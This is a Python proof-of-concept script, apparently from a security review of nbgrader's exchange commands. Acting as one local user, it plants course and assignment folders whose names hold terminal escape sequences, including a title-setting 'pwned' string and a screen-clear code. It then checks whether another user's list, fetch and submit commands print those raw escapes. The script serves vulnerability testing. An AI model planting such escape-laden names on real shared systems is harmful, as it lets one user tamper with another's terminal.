"""a10: a02's gap is `course_id == ''`. Do the other exchange commands (fetch_assignment, fetch_feedback, submit, list
--inbound, list --cached, list --remove) also run unguarded with no course id, in a root where eve keeps her own
course folder of escape-sequence names?"""
import os, subprocess, shutil
CLONE = (__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))); NB = f"{CLONE}/.venv/bin/nbgrader"
base = "/tmp/attack47-user-ex10"
shutil.rmtree(base, ignore_errors=True)
os.makedirs(base); os.chown(base, 65534, 65534)
root = f"{base}/exchange"; os.makedirs(root); os.chown(root, 65534, 65534); os.chmod(root, 0o1777)
def as_user(uid, cmd, cwd):
    env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": cwd, "LANG": "C.UTF-8"}
    r = subprocess.run(["setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups"] + cmd, cwd=cwd, env=env,
                       capture_output=True, timeout=300)
    return r.returncode, (r.stdout + r.stderr).decode(errors="backslashreplace")
evil = "\x1b]0;pwned\x07evil"
code = f'''
import os
c = os.path.join({root!r}, {evil!r})
for sub in ("outbound/ps1_memory\\x1b[2J", "inbound/bob47+ps1_memory+2026-01-01 00:00:00.000000 UTC", "feedback"):
    os.makedirs(os.path.join(c, sub))
'''
print(as_user(2001, ["/usr/bin/python3", "-c", code], "/home/eve47"))
os.makedirs("/home/bob47/w10", exist_ok=True); os.chown("/home/bob47/w10", 2002, 2002); os.chmod("/home/bob47/w10", 0o700)
for args in (["list"], ["list", "--inbound"], ["list", "--cached"], ["list", "--remove"], ["list", "--inbound", "--remove"],
             ["fetch_assignment", "ps1_memory"], ["fetch_feedback", "ps1_memory"], ["submit", "ps1_memory"]):
    rc, out = as_user(2002, [NB, *args, f"--Exchange.root={root}"], "/home/bob47/w10")
    print(f"bob: nbgrader {' '.join(args)}: rc={rc} raw ESC printed: {chr(27) in out}; last line: {out.strip().splitlines()[-1][:200]!r}")
print("eve's folders still there:", os.listdir(os.path.join(root, evil)))
